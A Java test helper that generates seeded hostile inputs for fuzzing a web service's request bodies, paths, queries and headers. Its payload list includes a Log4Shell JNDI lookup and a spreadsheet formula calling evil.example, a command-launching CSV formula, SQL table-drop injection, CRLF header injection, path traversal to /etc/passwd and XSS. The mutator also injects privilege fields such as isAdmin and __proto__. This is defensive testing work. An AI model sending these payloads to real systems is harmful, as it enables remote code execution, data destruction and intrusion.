package dev.rollcall.acceptance;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** What somebody sends who means no good: bodies, values in paths and queries, header fields. From one seed the same. */
final class Hostile {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final JsonMapper MAPPER = JsonMapper.builder().build();
    private static final int DEEP = 5_000;

    /** Oversized, homoglyph, bidi, formula, injection, path tricks, bytes that no text has. */
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "x".repeat(300),
            "x".repeat(70_000),
            "аdа@office.example", // Cyrillic
            "\u202Emoc.elpmaxe@live\u202C",
            "a\u200Bb@office.example",
            "=HYPERLINK(\"http://evil.example\";\"x\")",
            "+cmd|' /C calc'!A0",
            "\r\nSet-Cookie: evil=1\r\n\r\n<html>",
            "../../../etc/passwd",
            "..%2f..%2f",
            "%00",
            "'; drop table event_store.event; --",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "\uD800",
            "😀".repeat(50),
            "-1",
            "99999999999999999999999999",
            "1e400",
            "NaN",
            "null",
            "true",
            "[]",
            "0000-00-00T00:00:00Z",
            "9999-12-31T23:59:59.999999999Z",
            "-999999999-01-01T00:00:00Z",
            "00000000-0000-0000-0000-000000000000",
            "{00000000-0000-0000-0000-000000000000}",
            "sealed.1.operator.AAAA",
            "[erased]",
            "*",
            "Bearer x");

    private final Random random;

    Hostile(long seed) {
        this.random = new Random(seed);
    }

    /** As it may stand in a path or a query. */
    String segment() {
        String text = text().replace("\uD800", "?");
        return URLEncoder.encode(text.substring(0, Math.min(text.length(), 2_000)), StandardCharsets.UTF_8)
                .replace("+", "%20");
    }

    /** As it may stand in a header field. */
    String header() {
        String text = text().replaceAll("[^\\x20-\\x7e]", "?");
        return text.substring(0, Math.min(text.length(), 2_000));
    }

    boolean sometimes(double chance) {
        return random.nextDouble() < chance;
    }

    <T> T one(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }

    private String text() {
        return one(TEXTS);
    }

    /** A body like the example, and not quite. */
    String body(JsonNode example) {
        return switch (random.nextInt(14)) {
            case 0 -> "";
            case 1 -> "{";
            case 2 -> "\uFEFF{}";
            case 3 -> "[".repeat(DEEP) + "]".repeat(DEEP);
            case 4 -> "{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP);
            case 5 -> "{\"" + "x".repeat(1_200_000) + "\": 1}";
            case 6 -> example + "{}";
            case 7 -> twice(example);
            case 8 -> value().toString();
            default -> mutated(example).toString();
        };
    }

    private String twice(JsonNode example) {
        String all = example.toString();
        return example.isObject() && !example.isEmpty()
                ? all.substring(0, all.length() - 1) + "," + all.substring(1)
                : all + all;
    }

    /** Changes one place, or adds one. */
    private JsonNode mutated(JsonNode example) {
        JsonNode copy = MAPPER.readTree(example.toString());
        List<JsonNode> inner = new ArrayList<>();
        collect(copy, inner);
        if (inner.isEmpty()) {
            return value();
        }
        JsonNode place = one(inner);
        if (place instanceof ObjectNode object) {
            List<String> names = new ArrayList<>(object.propertyNames());
            if (names.isEmpty() || sometimes(0.2)) {
                object.set(one(List.of("isAdmin", "role", "organizationId", "__proto__", "x".repeat(500))), value());
            } else {
                String name = one(names);
                if (sometimes(0.15)) {
                    object.remove(name);
                } else {
                    object.set(name, value());
                }
            }
        } else if (place instanceof ArrayNode array) {
            if (sometimes(0.3)) {
                JsonNode filler = value();
                for (int i = 0; i < 600; i++) {
                    array.add(filler);
                }
            } else {
                array.insert(0, value());
            }
        }
        return copy;
    }

    private static void collect(JsonNode node, List<JsonNode> inner) {
        if (node.isContainer()) {
            inner.add(node);
            node.forEach(child -> collect(child, inner));
        }
    }

    private JsonNode value() {
        return switch (random.nextInt(9)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(random.nextBoolean());
            case 2 -> JSON.numberNode(random.nextLong());
            case 3 -> JSON.numberNode(-0.5);
            case 4 -> JSON.arrayNode().add(JSON.objectNode());
            case 5 -> JSON.objectNode().put("x", "y");
            default -> JSON.stringNode(text().replace("\uD800", "?"));
        };
    }
}
